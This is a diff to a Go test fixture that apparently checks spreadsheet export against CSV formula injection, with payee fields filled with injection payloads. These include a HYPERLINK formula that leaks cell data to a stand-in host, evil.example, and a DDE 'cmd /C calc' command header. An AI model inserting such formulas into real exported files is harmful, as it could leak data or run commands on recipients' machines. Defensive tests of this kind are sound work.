@@ -44,15 +44,15 @@ func TestInertText(t *testing.T) {
 // injectionSource is a run whose payee fields are formulas.
 func injectionSource() *sliceSource {
 	evil := []InputField{
-		{"client_transfer_id", "inj-1"},
-		{"first_name", `=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
-		{"last_name", "+1-1"},
-		{"email", "@SUM(A1)"},
-		{"notes", "-2+3"},
-		{"=cmd|' /C calc'!A0", "\tTAB"},
-		{"amount", "-5.00"},
-		{"city", " =1+1"},
-		{"state_province", "\n=1+1"},
+		{Header: "client_transfer_id", Value: "inj-1"},
+		{Header: "first_name", Value: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
+		{Header: "last_name", Value: "+1-1"},
+		{Header: "email", Value: "@SUM(A1)"},
+		{Header: "notes", Value: "-2+3"},
+		{Header: "=cmd|' /C calc'!A0", Value: "\tTAB"},
+		{Header: "amount", Value: "-5.00"},
+		{Header: "city", Value: " =1+1"},
+		{Header: "state_province", Value: "\n=1+1"},
 	}
 	return &sliceSource{
 		run: ResultsRun{ID: 1, SheetName: "evil.csv", StartedAt: time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)},
